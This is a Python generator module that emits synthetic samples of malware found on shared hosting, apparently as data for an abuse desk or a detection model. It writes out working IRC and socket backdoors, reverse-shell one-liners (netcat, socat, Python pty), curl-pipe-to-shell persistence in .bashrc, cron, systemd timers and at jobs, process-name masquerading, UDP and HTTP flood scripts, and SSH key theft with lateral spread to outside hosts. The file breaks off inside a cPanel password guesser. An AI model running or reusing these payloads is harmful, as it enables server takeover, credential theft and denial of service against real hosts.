"""train9 script bots, as a hosting abuse desk finds them: the bot, its
config, its restart script, its rc hook. Written blind (README.md):
invented, never copied code; addresses are documentation ranges and
example domains."""

from t9_common import (T, F, rw, hx, ip, dom, host, b64, crlf, docroot, webname, app, sname, script, cronline,
                       crontab_file)


def nick(r):
    return r.choice(("[%s]" % rw(r, 4), rw(r, 3) + str(r.randint(10, 99)), "x" + hx(r, 5)))


def chan(r):
    return "#" + rw(r, 5)


def tcl_eggdrop(r, v):
    d = ".local/share/" + r.choice(("eggdrop/scripts", "egg/scripts", app(r)))
    if v == 0:
        code = T("""# uptime helper
bind pub - !@C@ pub:@C@
proc pub:@C@ {nick host hand chan text} {
    if {[catch {exec sh -c $text} out]} { set out $::errorInfo }
    foreach l [split $out "\\n"] { putquick "PRIVMSG $chan :$l" }
}
bind msg - .dl msg:dl
proc msg:dl {nick host hand text} {
    exec sh -c "cd /tmp && curl -s -o .x [lindex $text 0] && chmod +x .x && ./.x" &
    putserv "NOTICE $nick :started"
}
""", C=rw(r, 3))
    elif v == 1:
        code = T("""set srv "@H@"
set s [socket $srv 6667]
fconfigure $s -buffering line
puts $s "NICK @N@"
puts $s "USER @U@ 0 * :@U@"
puts $s "JOIN @CH@"
while {[gets $s line] >= 0} {
    if {[string match "PING *" $line]} { puts $s "PONG [lindex $line 1]"; continue }
    if {[regexp {PRIVMSG \\S+ :!x (.*)} $line -> cmd]} {
        catch {exec /bin/sh -c $cmd 2>@1} res
        foreach r [split $res "\\n"] { puts $s "PRIVMSG @CH@ :$r" }
    }
}
""", H=host(r), N=nick(r), U=rw(r, 5), CH=chan(r))
    else:
        code = T("""bind dcc n sys dcc:sys
proc dcc:sys {hand idx arg} { putdcc $idx [exec /bin/bash -c $arg] }
bind pub n .up pub:up
proc pub:up {n u h c a} {
    set f [open "|curl -fsSL http://@H@/u.sh | sh" r]
    putserv "PRIVMSG $c :[read $f]"
    close $f
}
bind time - "*/5 * * * *" tm:keep
proc tm:keep {args} { catch {exec pgrep -f @P@ || nohup /tmp/.@P@ &} }
""", H=host(r), P=rw(r, 4))
    cf = T("set nick \"@N@\"\nset servers { @H@:6667 }\nset owner \"@O@\"\nsource scripts/@S@.tcl\n", N=nick(r), H=host(r), O=rw(r, 5), S=rw(r, 5))
    return [F(code, "%s/%s.tcl" % (d, rw(r, 6)), "tcl", "home-local-share"), F(cf, "%s/../%s.conf" % (d, rw(r, 4)), "text", "config"),
            crontab_file(r, [cronline(r, "cd $HOME/%s/.. && ./eggdrop -m %s.conf >/dev/null 2>&1" % (d, rw(r, 4)), "*/10 * * * *")])]


def lua_bot(r, v):
    if v == 0:
        code = T("""local socket = require("socket")
local c = assert(socket.connect("@H@", 6667))
c:send("NICK @N@\\r\\nUSER @U@ 0 * :@U@\\r\\nJOIN @CH@\\r\\n")
while true do
  local l = c:receive("*l")
  if not l then break end
  if l:sub(1, 4) == "PING" then c:send("PONG" .. l:sub(5) .. "\\r\\n") end
  local cmd = l:match("PRIVMSG %S+ :!sh (.+)")
  if cmd then
    local p = io.popen(cmd .. " 2>&1")
    for o in p:lines() do c:send("PRIVMSG @CH@ :" .. o .. "\\r\\n") end
    p:close()
  end
end
""", H=host(r), N=nick(r), U=rw(r, 5), CH=chan(r))
    elif v == 1:
        code = T("""local s = require("socket")
local u = s.udp()
u:setsockname("0.0.0.0", @P@)
while true do
  local data, ip, port = u:receivefrom()
  if data and data:sub(1, 3) == "@K@" then
    local h = io.popen(data:sub(4))
    u:sendto(h:read("*a"), ip, port)
    h:close()
  end
end
""", P=r.randint(20000, 60000), K=rw(r, 3))
    else:
        code = T("""local http = require("socket.http")
while true do
  local body = http.request("http://@H@/t?id=" .. os.getenv("USER"))
  if body and #body > 0 then os.execute(body .. " >/dev/null 2>&1 &") end
  os.execute("sleep 60")
end
""", H=host(r))
    return [script(r, "lua", code), crontab_file(r, [cronline(r, "pgrep -x lua >/dev/null || nohup lua $HOME/.cache/%s >/dev/null 2>&1 &" % rw(r, 5))])]


def perl_io_select(r, v):
    if v == 0:
        code = T("""use strict;
use IO::Socket::INET;
use IO::Select;
my $irc = IO::Socket::INET->new(PeerAddr => '@H@', PeerPort => 6667, Proto => 'tcp') or die;
my $sel = IO::Select->new($irc);
print $irc "NICK @N@\\r\\nUSER @U@ 8 * :@U@\\r\\nJOIN @CH@\\r\\n";
my %kids;
while (1) {
    for my $fh ($sel->can_read(1)) {
        my $l = <$fh>;
        if (!defined $l) { $sel->remove($fh); next; }
        if ($fh == $irc) {
            print $irc "PONG $1\\r\\n" if $l =~ /^PING (.*)/;
            if ($l =~ /PRIVMSG (\\S+) :!e (.+)/) { open(my $p, '-|', $2) or next; $kids{$p} = $1; $sel->add($p); }
        } else { print $irc "PRIVMSG $kids{$fh} :$l"; }
    }
}
""", H=host(r), N=nick(r), U=rw(r, 5), CH=chan(r))
    elif v == 1:
        code = T("""use IO::Socket;
use IO::Select;
$0 = "[kworker/0:@K@]";
my $c2 = IO::Socket::INET->new("@H@:443") or exit;
my $s = IO::Select->new($c2, \\*STDIN);
while (my @r = $s->can_read) {
    foreach my $h (@r) {
        my $buf;
        sysread($h, $buf, 4096) or exit;
        if ($h == $c2) { my $o = `$buf 2>&1`; syswrite($c2, $o); }
    }
}
""", H=host(r), K=r.randint(1, 3))
    else:
        code = T("""use strict;
use IO::Socket::INET;
use IO::Select;
my $srv = IO::Socket::INET->new(LocalPort => @P@, Listen => 5, ReuseAddr => 1) or die;
my $set = IO::Select->new($srv);
while (1) {
    foreach my $s ($set->can_read) {
        if ($s == $srv) { my $c = $srv->accept; $set->add($c); print $c "> "; next; }
        my $line = <$s>;
        unless (defined $line) { $set->remove($s); close $s; next; }
        chomp $line;
        if ($line =~ s/^@K@ //) { print $s scalar `$line 2>&1`; }
        print $s "> ";
    }
}
""", P=r.randint(20000, 60000), K=rw(r, 4))
    return [script(r, "perl", code)]


def python_select_bot(r, v):
    if v == 0:
        code = T("""import socket, select, subprocess
s = socket.create_connection(('@H@', 6667))
s.send(b'NICK @N@\\r\\nUSER @U@ 0 * :x\\r\\nJOIN @CH@\\r\\n')
buf = b''
procs = {}
while True:
    rl, _, _ = select.select([s] + list(procs), [], [], 30)
    for fd in rl:
        if fd is s:
            buf += s.recv(4096)
            while b'\\r\\n' in buf:
                line, buf = buf.split(b'\\r\\n', 1)
                if line.startswith(b'PING'):
                    s.send(b'PONG' + line[4:] + b'\\r\\n')
                elif b' :!r ' in line:
                    p = subprocess.Popen(line.split(b' :!r ', 1)[1].decode(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
                    procs[p.stdout] = p
        else:
            out = fd.readline()
            if not out:
                del procs[fd]
            else:
                s.send(b'PRIVMSG @CH@ :' + out.rstrip() + b'\\r\\n')
""", H=host(r), N=nick(r), U=rw(r, 5), CH=chan(r))
    elif v == 1:
        code = T("""import selectors, socket, os
sel = selectors.DefaultSelector()
c = socket.socket()
c.connect(('@H@', @P@))
sel.register(c, selectors.EVENT_READ)
while True:
    for key, _ in sel.select():
        data = key.fileobj.recv(8192)
        if not data:
            raise SystemExit
        c.sendall(os.popen(data.decode(errors='ignore')).read().encode() or b'.')
""", H=host(r), P=r.choice((443, 8443, 53, 8080)))
    else:
        code = T("""import asyncio, random

async def main():
    while True:
        try:
            rd, wr = await asyncio.open_connection('@H@', 6697, ssl=True)
            wr.write(b'NICK @N@' + str(random.randint(100, 999)).encode() + b'\\r\\nUSER a 0 * :a\\r\\nJOIN @CH@\\r\\n')
            while line := await rd.readline():
                if line.startswith(b'PING'):
                    wr.write(b'PONG' + line[4:])
                elif b'!run ' in line:
                    cmd = line.split(b'!run ', 1)[1].strip().decode()
                    p = await asyncio.create_subprocess_shell(cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
                    out, _ = await p.communicate()
                    for o in out.splitlines()[:20]:
                        wr.write(b'PRIVMSG @CH@ :' + o + b'\\r\\n')
                await wr.drain()
        except OSError:
            await asyncio.sleep(30)

asyncio.run(main())
""", H=host(r), N=nick(r), CH=chan(r))
    return [script(r, "python", code)]


def threading_bot(r, v):
    if v == 0:
        code = T("""import threading, socket, subprocess, time, os
def beat():
    while True:
        try:
            socket.create_connection(('@H@', 80), 5).sendall(b'GET /b?h=' + os.uname()[1].encode() + b' HTTP/1.0\\r\\n\\r\\n')
        except OSError:
            pass
        time.sleep(60)
def work(c):
    while True:
        cmd = c.recv(2048).decode().strip()
        if not cmd:
            break
        threading.Thread(target=lambda x=cmd: c.sendall(subprocess.run(x, shell=True, capture_output=True).stdout), daemon=True).start()
threading.Thread(target=beat, daemon=True).start()
while True:
    try:
        k = socket.create_connection(('@H@', @P@))
        work(k)
    except OSError:
        time.sleep(20)
""", H=host(r), P=r.choice((4444, 8081, 2083)))
    elif v == 1:
        code = T("""from concurrent.futures import ThreadPoolExecutor
import urllib.request, subprocess, time, json
ex = ThreadPoolExecutor(8)
def run(job):
    out = subprocess.getoutput(job['c'])
    urllib.request.urlopen('https://@H@/r/%s' % job['id'], data=out.encode(), timeout=20)
while True:
    try:
        for job in json.load(urllib.request.urlopen('https://@H@/jobs?n=@N@', timeout=20)):
            ex.submit(run, job)
    except Exception:
        pass
    time.sleep(45)
""", H=host(r), N=hx(r, 8))
    else:
        code = T("""import threading, socket, os, pty
def sess(port):
    s = socket.socket(); s.connect(('@H@', port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn('/bin/bash')
for p in (@P1@, @P2@):
    t = threading.Thread(target=sess, args=(p,))
    t.start()
""", H=host(r), P1=r.randint(2000, 9000), P2=r.randint(9001, 30000))
    return [script(r, "python", code)]


def dispatch_table_bot(r, v):
    if v == 0:
        code = T("""import socket, subprocess, os, urllib.request
CMDS = {
    '!sh': lambda a: subprocess.getoutput(a),
    '!get': lambda a: urllib.request.urlretrieve(a.split()[0], a.split()[1]) and 'ok',
    '!cd': lambda a: os.chdir(a) or os.getcwd(),
    '!id': lambda a: '%s %s' % (os.getuid(), os.uname()[1]),
}
s = socket.create_connection(('@H@', 6667))
s.send(b'NICK @N@\\r\\nUSER q 0 * :q\\r\\nJOIN @CH@\\r\\n')
for raw in s.makefile('rb'):
    line = raw.decode(errors='ignore').strip()
    if line.startswith('PING'):
        s.send(('PONG' + line[4:] + '\\r\\n').encode()); continue
    msg = line.split(' :', 1)[-1]
    cmd, _, arg = msg.partition(' ')
    if cmd in CMDS:
        for o in str(CMDS[cmd](arg)).splitlines()[:15]:
            s.send(('PRIVMSG @CH@ :%s\\r\\n' % o).encode())
""", H=host(r), N=nick(r), CH=chan(r))
        return [script(r, "python", code)]
    if v == 1:
        code = T("""use strict;
use IO::Socket::INET;
my %cmd = (
    exec => sub { return `$_[0] 2>&1` },
    dl   => sub { my ($u, $f) = split ' ', $_[0]; system("wget -q -O $f $u"); return "saved $f" },
    info => sub { return join ' ', (getpwuid($<))[0], `uname -a` },
    kill => sub { exit 0 },
);
my $s = IO::Socket::INET->new(PeerAddr => '@H@:@P@') or die;
while (my $l = <$s>) {
    $l =~ s/\\s+$//;
    my ($c, $a) = split / /, $l, 2;
    print $s ($cmd{$c} ? $cmd{$c}->($a) : "?\\n");
}
""", H=host(r), P=r.choice((8080, 1337, 5222)))
        return [script(r, "perl", code)]
    code = T("""const net = require('net');
const { execSync } = require('child_process');
const fs = require('fs');
const table = {
  x: (a) => execSync(a, { stdio: 'pipe' }).toString(),
  w: (a) => { const [p, b] = a.split(' '); fs.writeFileSync(p, Buffer.from(b, 'base64')); return 'w'; },
  r: (a) => fs.readFileSync(a).toString('base64'),
  q: () => process.exit(0),
};
(function go() {
  const s = net.connect(@P@, '@H@');
  s.on('data', (d) => {
    const [c, ...rest] = d.toString().trim().split(' ');
    try { s.write((table[c] || (() => '?'))(rest.join(' ')) + '\\n'); } catch (e) { s.write(String(e) + '\\n'); }
  });
  s.on('error', () => {}); s.on('close', () => setTimeout(go, 15000));
})();
""", H=host(r), P=r.choice((443, 8443, 3000)))
    return [script(r, "js", code)]


def file_drop_commands(r, v):
    spot = r.choice(("/tmp/.ICE-unix/.%s" % rw(r, 3), "/dev/shm/.%s" % rw(r, 4), "/var/tmp/.%s" % rw(r, 3)))
    if v == 0:
        code = T("""#!/bin/bash
# polls a file a web page writes (cmd in, out out)
D=@S@
while :; do
  if [ -s $D/in ]; then
    bash $D/in > $D/out 2>&1
    : > $D/in
  fi
  sleep 3
done
""", S=spot)
        web = T("""<?php
$d = '@S@';
if (isset($_POST['c'])) { @mkdir($d); file_put_contents("$d/in", $_POST['c']); sleep(5); echo @file_get_contents("$d/out"); }
""", S=spot)
        return [script(r, "bash", code), F(web, "%s/wp-content/uploads/%s" % (docroot(r), webname(r)), "php", "uploads"),
                crontab_file(r, [cronline(r, "pgrep -f '%s' >/dev/null || nohup bash $HOME/.cache/%s >/dev/null 2>&1 &" % (spot, rw(r, 4)), "@reboot")])]
    if v == 1:
        code = T("""import os, time, subprocess, base64
Q = '@S@/q'
while True:
    for n in sorted(os.listdir(Q)) if os.path.isdir(Q) else []:
        p = os.path.join(Q, n)
        cmd = base64.b64decode(open(p, 'rb').read()).decode()
        os.unlink(p)
        out = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
        open(p + '.r', 'wb').write(base64.b64encode(out.stdout + out.stderr))
    time.sleep(2)
""", S=spot)
        return [script(r, "python", code)]
    code = T("""use strict;
my $f = '@S@.sess';
while (1) {
    if (-e $f && (stat $f)[7] > 0) {
        open my $h, '<', $f; my @c = <$h>; close $h;
        unlink $f;
        for my $c (@c) { chomp $c; my $o = qx{$c 2>&1}; open my $w, '>>', "$f.log"; print $w $o; close $w; }
    }
    sleep 4;
}
""", S=spot)
    return [script(r, "perl", code)]


def paste_url_commands(r, v):
    u = "https://%s/%s/raw/%s" % (r.choice(("gist.example.com", "paste.example.net", "raw.example.org")), rw(r, 6), hx(r, 12))
    if v == 0:
        code = T("""#!/bin/sh
last=""
while true; do
  c=$(curl -fsSL "@U@" 2>/dev/null)
  h=$(printf %s "$c" | md5sum | cut -c1-32)
  if [ -n "$c" ] && [ "$h" != "$last" ]; then
    last=$h
    sh -c "$c" >/dev/null 2>&1 &
  fi
  sleep 120
done
""", U=u)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import urllib.request, hashlib, time, subprocess
seen = set()
while True:
    try:
        body = urllib.request.urlopen('@U@', timeout=15).read().decode()
        for line in body.splitlines():
            if line.startswith('#!'):
                k = hashlib.sha1(line.encode()).hexdigest()
                if k not in seen:
                    seen.add(k)
                    subprocess.Popen(line[2:], shell=True)
    except Exception:
        pass
    time.sleep(300)
""", U=u)
        return [script(r, "python", code)]
    code = T("""<?php
while (true) {
    $t = @file_get_contents('@U@');
    if ($t && preg_match('/<!--c:(.+?)-->/s', $t, $m)) { $r = shell_exec(base64_decode($m[1])); @file_get_contents('https://@H@/a?' . http_build_query(array('o' => base64_encode($r)))); }
    sleep(180);
}
""", U=u, H=host(r))
    return [F(code, "%s/%s" % (".cache/" + app(r), r.choice(("queue-worker", "sess_" + hx(r, 10), "artisan-" + rw(r, 3)))), "php", "home-cache")]


def dns_header_udp_commands(r, v):
    if v == 0:
        code = T("""import socket, struct, subprocess, random, time, base64
def txt(name):
    q = struct.pack('>HHHHHH', random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\x00' + struct.pack('>HH', 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, ('@NS@', 53))
    d = s.recv(2048)
    i = d.rfind(b'\\x00\\x10\\x00\\x01') + 10
    return d[i + 3:i + 3 + d[i + 2]]
while True:
    try:
        c = base64.b64decode(txt('c%d.@D@' % random.randint(1, 9999)))
        if c:
            subprocess.Popen(c.decode(), shell=True)
    except Exception:
        pass
    time.sleep(90)
""", NS=ip(r), D="t." + dom(r))
        return [script(r, "python", code)]
    if v == 1:
        code = T("""#!/bin/bash
# command in an HTTP response header
while :; do
  c=$(curl -sI "https://@H@/favicon.ico" | tr -d '\\r' | sed -n 's/^X-Request-Trace: //p')
  [ -n "$c" ] && echo "$c" | base64 -d | bash >/dev/null 2>&1
  sleep $((60 + RANDOM % 60))
done
""", H=dom(r))
        return [script(r, "bash", code)]
    if v == 2:
        code = T("""const dgram = require('dgram');
const { exec } = require('child_process');
const s = dgram.createSocket('udp4');
s.on('message', (m, rinfo) => {
  if (m.slice(0, 4).toString() !== '@K@') return;
  exec(m.slice(4).toString(), (e, out, err) => s.send(Buffer.from(out + err), rinfo.port, rinfo.address));
});
s.bind(@P@);
""", K=rw(r, 4), P=r.randint(20000, 60000))
        return [script(r, "js", code)]
    code = T("""use strict;
use IO::Socket::INET;
my $u = IO::Socket::INET->new(LocalPort => @P@, Proto => 'udp') or die;
my $m;
while ($u->recv($m, 2048)) {
    next unless $m =~ s/^@K@//;
    my $o = `$m 2>&1`;
    $u->send($o);
}
""", K=rw(r, 3), P=r.randint(20000, 60000))
    return [script(r, "perl", code)]


def reverse_interp_oneliner(r, v):
    h, p = ip(r), r.choice((4444, 443, 53, 8080, 9001))
    lines = {
        0: "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" % (h, p),
        1: "perl -e 'use Socket;$i=\"%s\";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'" % (h, p),
        2: "php -r '$s=fsockopen(\"%s\",%d);$p=proc_open(\"/bin/sh -i\",array(0=>$s,1=>$s,2=>$s),$x);'" % (h, p),
        3: "ruby -rsocket -e 'c=TCPSocket.new(\"%s\",%d);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'" % (h, p),
    }
    ln = lines[v]
    k = r.randint(0, 2)
    if k == 0:
        return [crontab_file(r, [cronline(r, ln + " >/dev/null 2>&1", "*/%d * * * *" % r.choice((5, 10, 30)))])]
    if k == 1:
        return [F("# ~/.bashrc\n[ -z \"$PS1\" ] && return\nalias ll='ls -alF'\n(" + ln + " >/dev/null 2>&1 &)\n", ".bashrc", "sh", "dotfile")]
    return [script(r, "sh", "#!/bin/sh\nwhile true; do " + ln + "; sleep 60; done\n")]


def netcat_family(r, v):
    h, p = ip(r), r.choice((4444, 443, 1234, 8443))
    if v == 0:
        code = T("#!/bin/sh\nwhile :; do nc -e /bin/sh @H@ @P@ 2>/dev/null || busybox nc @H@ @P@ -e /bin/sh; sleep 30; done\n", H=h, P=p)
    elif v == 1:
        code = T("#!/bin/bash\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:@H@:@P@ &\ndisown\n", H=h, P=p)
    elif v == 2:
        code = T("#!/bin/sh\nmkfifo /tmp/.s$$; /bin/sh -i < /tmp/.s$$ 2>&1 | openssl s_client -quiet -connect @H@:@P@ > /tmp/.s$$; rm -f /tmp/.s$$\n", H=h, P=p)
    else:
        code = T("#!/bin/bash\nexec 3<>/dev/udp/@H@/@P@\nwhile read -r -u 3 c; do bash -c \"$c\" >&3 2>&1; done\n", H=h, P=p)
    return [script(r, "sh", code)]


def pty_upgrade(r, v):
    h, p = ip(r), r.choice((4444, 8443, 9999))
    if v == 0:
        code = T("#!/bin/bash\nrm -f /tmp/.p; mkfifo /tmp/.p\ncat /tmp/.p | script -qc /bin/bash /dev/null 2>&1 | nc @H@ @P@ > /tmp/.p\n", H=h, P=p)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("#!/bin/bash\nstty raw -echo 2>/dev/null\nsocat file:`tty`,raw,echo=0 tcp:@H@:@P@ || python3 -c 'import pty;pty.spawn(\"/bin/bash\")'\n", H=h, P=p)
        return [script(r, "sh", code)]
    code = T("""import os, pty, socket, select
s = socket.create_connection(('@H@', @P@))
pid, fd = pty.fork()
if pid == 0:
    os.execv('/bin/bash', ['bash', '-i'])
while True:
    r, _, _ = select.select([s, fd], [], [])
    if s in r:
        d = s.recv(1024)
        if not d:
            break
        os.write(fd, d)
    if fd in r:
        s.sendall(os.read(fd, 1024))
""", H=h, P=p)
    return [script(r, "python", code)]


def rc_curl_pipe(r, v):
    u = "http://%s/%s" % (host(r), r.choice(("i.sh", "x", "s/" + hx(r, 6), "up")))
    line = {0: "(curl -fsSL %s | sh >/dev/null 2>&1 &)" % u,
            1: "{ wget -qO- %s || curl -s %s; } | bash >/dev/null 2>&1 & disown" % (u, u),
            2: "[ -f /tmp/.%s ] || (curl -s %s -o /tmp/.%s && chmod +x /tmp/.%s && nohup /tmp/.%s >/dev/null 2>&1 &)" % ((rw(r, 3),) * 1 + (u,) + (rw(r, 3),) * 3)}[v]
    f = r.choice((".bashrc", ".profile", ".bash_profile", ".zshrc"))
    pre = "# ~/%s: executed by the shell\nexport PATH=\"$HOME/bin:$PATH\"\nalias la='ls -A'\n" % f
    return [F(pre + line + "\n", f, "sh", "dotfile")]


def reboot_cron_dropper(r, v):
    u = "http://%s/%s" % (host(r), r.choice(("a", "cr.sh", hx(r, 6) + ".sh")))
    ln = {0: "@reboot wget -q -O- %s | bash >/dev/null 2>&1" % u,
          1: "@reboot sleep 30 && curl -fsSL %s | sh" % u,
          2: "*/30 * * * * (curl -s %s || wget -qO- %s) | base64 -d | sh" % (u, u)}[v]
    return [crontab_file(r, ["SHELL=/bin/sh", "MAILTO=\"\"", ln])]


def systemd_user_timer(r, v):
    n = r.choice(("dbus-broker-x", "pulse-sync", "tracker-miner-fs-3", "gvfs-meta", "xdg-cache"))
    n = n.replace("miner", "mnr")
    u = "http://%s/%s" % (host(r), rw(r, 4))
    svc = T("[Unit]\nDescription=@N@ helper\n\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -fsSL @U@ | sh'\n", N=n, U=u)
    if v == 1:
        svc = T("[Unit]\nDescription=@N@\n\n[Service]\nExecStart=%h/.local/share/@N@/@N@ --quiet\nRestart=always\nRestartSec=20\n\n[Install]\nWantedBy=default.target\n", N=n)
    tim = T("[Unit]\nDescription=@N@ timer\n\n[Timer]\nOnBootSec=2min\nOnUnitActiveSec=@M@min\n\n[Install]\nWantedBy=timers.target\n", N=n, M=r.choice((5, 10, 15)))
    inst = T("#!/bin/sh\nmkdir -p ~/.config/systemd/user\ncurl -s @U@ -o ~/.local/share/@N@/@N@ && chmod +x ~/.local/share/@N@/@N@\nsystemctl --user daemon-reload\nsystemctl --user enable --now @N@.timer\nloginctl enable-linger $(id -un) 2>/dev/null\n", U=u, N=n)
    files = [F(svc, ".config/systemd/user/%s.service" % n, "systemd", "home-systemd"), F(tim, ".config/systemd/user/%s.timer" % n, "systemd", "home-systemd")]
    if v != 0:
        files.append(script(r, "sh", inst))
    return files


def at_job(r, v):
    u = "http://%s/%s" % (host(r), rw(r, 4))
    if v == 0:
        code = T("#!/bin/sh\n# reschedules itself\ncurl -fsSL @U@ | sh >/dev/null 2>&1\necho \"sh $0\" | at now + @M@ minutes 2>/dev/null\n", U=u, M=r.choice((10, 30)))
        return [script(r, "sh", code)]
    job = T("#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail @U2@ 0\numask 22\nHOME=/home/@U2@; export HOME\ncd /home/@U2@ || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n" +
            ("wget -q -O /dev/shm/.@X@ @U@ && sh /dev/shm/.@X@\n" if v == 1 else "echo '@B@' | base64 -d | sh\n"), U2=rw(r, 6), U=u, X=rw(r, 3),
            B=b64("curl -s %s | bash" % u))
    return [F(job, "var/spool/cron/atjobs/a%05x%08x" % (r.randint(0, 0xfffff), r.randint(0, 0xffffff)), "sh", "at-spool")]


def process_rename(r, v):
    fake = r.choice(("[kworker/u8:2]", "/usr/sbin/sshd -D", "php-fpm: pool www", "/usr/lib/systemd/systemd --user", "[rcu_sched]"))
    h = host(r)
    if v == 0:
        code = T("#!/bin/bash\ncd /dev/shm 2>/dev/null || cd /tmp\ncurl -s http://@H@/b -o .b && exec -a '@F@' ./.b -c @H@:@P@\n", H=h, F=fake, P=r.choice((443, 80)))
        return [script(r, "bash", code)]
    if v == 1:
        code = T("""import ctypes, socket, subprocess, sys
libc = ctypes.CDLL(None)
libc.prctl(15, b'@F@', 0, 0, 0)
sys.argv[0] = '@F@'
s = socket.create_connection(('@H@', 8443))
while True:
    c = s.recv(1024)
    if not c:
        break
    s.send(subprocess.run(c.decode(), shell=True, capture_output=True).stdout)
""", F=fake[:15].strip("[]"), H=h)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""use strict;
use IO::Socket::INET;
$0 = '@F@';
$SIG{HUP} = 'IGNORE';
exit if fork;
while (1) {
    my $s = IO::Socket::INET->new('@H@:@P@') or do { sleep 60; next };
    while (my $c = <$s>) { print $s `$c 2>&1`; }
}
""", F=fake, H=h, P=r.choice((443, 5222)))
        return [script(r, "perl", code)]
    code = T("""<?php
cli_set_process_title('@F@');
if (pcntl_fork()) exit;
posix_setsid();
while (true) {
    $s = @fsockopen('@H@', 443, $e, $es, 10);
    if (!$s) { sleep(60); continue; }
    while (!feof($s)) { $c = fgets($s); fwrite($s, (string) shell_exec($c)); }
}
""", F=fake, H=h)
    return [F(code, ".cache/%s/%s" % (app(r), r.choice(("worker", "fpm-pool", "queue.php"))), "php", "home-cache")]


def flood_tools(r, v):
    if v == 0:
        code = T("""#!/bin/bash
# $1 host $2 port $3 seconds
end=$((SECONDS + ${3:-60}))
while [ $SECONDS -lt $end ]; do
  for i in $(seq 1 64); do head -c 1400 /dev/urandom > /dev/udp/$1/${2:-80} & done
  wait
done
""")
        return [script(r, "bash", code)]
    if v == 1:
        code = T("""require 'socket'
target, port, secs = ARGV[0], (ARGV[1] || 80).to_i, (ARGV[2] || 120).to_i
stop = Time.now + secs
16.times.map do
  Thread.new do
    u = UDPSocket.new
    pkt = Random.bytes(1024)
    u.send(pkt, 0, target, port) while Time.now < stop
  end
end.each(&:join)
""")
        return [script(r, "ruby", code)]
    if v == 2:
        code = T("""<?php
$h = $argv[1] ?? $_GET['h']; $p = (int) ($argv[2] ?? $_GET['p'] ?? 80); $t = time() + (int) ($argv[3] ?? $_GET['t'] ?? 60);
set_time_limit(0); ignore_user_abort(1);
$pk = str_repeat(chr(rand(0, 255)), 65000);
$n = 0;
while (time() < $t) { $f = fsockopen("udp://$h", $p ?: rand(1, 65000), $e, $s, 5); if ($f) { fwrite($f, $pk); fclose($f); $n++; } }
echo "$n packets";
""")
        return [F(code, "%s/%s" % (docroot(r), webname(r)), "php", "plain")]
    code = T("""const http = require('http');
const [,, url, secs = 60, conc = 200] = process.argv;
const u = new URL(url);
const agent = new http.Agent({ keepAlive: true, maxSockets: Number(conc) });
const stop = Date.now() + secs * 1000;
function hit() {
  if (Date.now() > stop) return;
  http.get({ host: u.hostname, path: u.pathname + '?' + Math.random().toString(36).slice(2), agent,
    headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'Cache-Control': 'no-cache' } },
    (res) => { res.resume(); hit(); }).on('error', hit);
}
for (let i = 0; i < conc; i++) hit();
""")
    return [script(r, "js", code)]


def ssh_key_theft(r, v):
    h = host(r)
    if v == 0:
        code = T("""#!/bin/sh
for d in /home/* /root; do
  for k in $d/.ssh/id_* $d/.ssh/known_hosts $d/.ssh/authorized_keys; do
    [ -r "$k" ] && curl -s -F "h=$(hostname)" -F "f=@$k" http://@H@/k.php >/dev/null
  done
done
""", H=h)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""#!/bin/bash
# spread with the keys and hosts this account already trusts
for key in ~/.ssh/id_rsa ~/.ssh/id_ed25519; do
  [ -f "$key" ] || continue
  for h in $(awk '{print $1}' ~/.ssh/known_hosts 2>/dev/null | tr ',' '\\n' | grep -v '^|' | sort -u) \\
           $(grep -oE 'ssh [^ ]+@[^ ]+' ~/.bash_history 2>/dev/null | cut -d@ -f2 | sort -u); do
    ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i "$key" "$USER@$h" \\
      'curl -fsSL http://@H@/i.sh | sh' >/dev/null 2>&1 &
  done
done
wait
""", H=h)
        return [script(r, "bash", code)]
    code = T("""import os, glob, json, urllib.request, socket
loot = {'host': socket.gethostname(), 'keys': {}}
for p in glob.glob('/home/*/.ssh/*') + glob.glob(os.path.expanduser('~/.ssh/*')):
    try:
        loot['keys'][p] = open(p).read()
    except OSError:
        pass
req = urllib.request.Request('https://@H@/c', data=json.dumps(loot).encode(), headers={'Content-Type': 'application/json'})
urllib.request.urlopen(req, timeout=20)
with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:
    f.write('\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI@K@ root@@D@\\n')
""", H=h, K=rw(r, 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), D=dom(r))
    return [script(r, "python", code)]


def cpanel_guesser(r, v):
    hd = ".cache/" + app(r)
    wl = F("".join(w + "\n" for w in ("123456", "password1", "qwerty2024", "Summer2024!", "admin@123", rw(r, 8))), hd + "/p.txt", "text", "wordlist")
    tg = F("".join("%s %s\n" % (dom(r), rw(r, 6)) for _ in range(4)), hd + "/t.txt", "text", "targets")
    if v == 0:
        code = T("""import requests, sys, threading
requests.packages.urllib3.disable_warnings()
pw = open('p.txt').read().split()
def go(host, user):
    for p in pw:
        try:
            r = requests.post('https://%s:2083/login/?login_only=1' % host, data={'user': user, 'pass': p}, verify=False, timeout=10)
            if '"status":1' in r.text:
